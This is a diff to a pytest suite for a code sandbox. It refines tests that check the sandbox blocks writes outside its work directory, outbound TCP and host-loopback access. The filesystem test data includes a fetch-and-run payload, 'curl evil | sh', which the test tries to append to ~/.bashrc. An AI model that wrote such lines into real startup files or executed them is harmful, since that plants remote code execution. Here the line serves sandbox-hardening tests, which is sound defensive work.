@@ -9,7 +9,6 @@ from __future__ import annotations
 
 import os
 import shutil
-import socket
 import time
 from pathlib import Path
 
@@ -145,8 +144,8 @@ def test_warm_pool_runs_each_interpreter_once(host):
         results = [sandbox.run(probe) for _ in range(5)]
         outputs = [r.stdout.strip() for r in results]
         last = sandbox.run("import os; print(os.getuid())")
-        assert last.status == "ok", last
     assert outputs == ["False"] * 5, results
+    assert last.status == "ok" and int(last.stdout) != 0, last  # a pooled run is unprivileged too
 
 
 # -- CPU and time ----------------------------------------------------------------
@@ -280,19 +279,29 @@ def test_input_without_stdin_is_an_error(sb, host):
 # -- filesystem --------------------------------------------------------------------
 
 
+# path -> the errno names the write may fail with
 WRITES = {
-    "bashrc": f"open({str(HOME / '.bashrc')!r}, 'a').write('curl evil | sh')",
-    "parent_dir": "open('../escaped', 'w').write('x')",
-    "root": "open('/escaped', 'w').write('x')",
-    "system": "open('/etc/escaped', 'w').write('x')",
+    # the home dir is not there (ENOENT), or is an empty dir on the read-only root: one
+    # the interpreter's prefix lies under (EROFS)
+    "bashrc": (str(HOME / ".bashrc"), ("ENOENT", "EROFS")),
+    "parent_dir": ("../escaped", ("EROFS",)),
+    "root": ("/escaped", ("EROFS",)),
+    "system": ("/etc/escaped", ("EROFS",)),
 }
+WRITE = """
+import errno
+try:
+    open({path!r}, 'a').write('curl evil | sh')
+    print('written')
+except OSError as e:
+    print(errno.errorcode[e.errno])
+"""
 
 
-@pytest.mark.parametrize("code", WRITES.values(), ids=WRITES.keys())
-def test_writes_outside_the_work_dir_fail(sb, host, code):
-    res = sb.run(code)
-    assert res.status == "error"
-    assert "Error" in res.stderr
+@pytest.mark.parametrize(("path", "errnos"), WRITES.values(), ids=WRITES.keys())
+def test_writes_outside_the_work_dir_fail(sb, host, path, errnos):
+    res = sb.run(WRITE.format(path=path))
+    assert res.status == "ok" and res.stdout.strip() in errnos, res
 
 
 def test_tmp_is_private(sb, host):
@@ -336,8 +345,13 @@ def test_home_cache_is_unreadable(sb, host):
 
 
 def test_outbound_tcp_fails(sb, host):
-    res = sb.run("import socket; socket.create_connection(('1.1.1.1', 80), timeout=2)")
-    assert res.status == "error" and "OSError" in res.stderr or "unreachable" in res.stderr
+    # ENETUNREACH at once: the run's namespace has no route at all. That it is a namespace
+    # of its own, which no offline host fakes, is in tests/test_sandbox_claims.py.
+    code = "import socket; socket.create_connection(('1.1.1.1', 80), timeout=2)"
+    res = sb.run(
+        f"import errno\ntry:\n    {code}\nexcept OSError as e:\n    print(errno.errorcode[e.errno])"
+    )
+    assert (res.status, res.stdout) == ("ok", "ENETUNREACH\n"), res
 
 
 def test_dns_fails(sb, host):
@@ -345,13 +359,4 @@ def test_dns_fails(sb, host):
     assert res.status == "error" and "gaierror" in res.stderr
 
 
-def test_host_loopback_is_out_of_reach(sb, host):
-    with socket.socket() as server:
-        server.bind(("127.0.0.1", 0))
-        server.listen()
-        port = server.getsockname()[1]
-        res = sb.run(f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2)")
-        server.settimeout(0.2)
-        with pytest.raises(TimeoutError):
-            server.accept()
-    assert res.status == "error" and "Error" in res.stderr
+# The host's loopback, out of reach inside but reachable outside: tests/test_sandbox_claims.py.
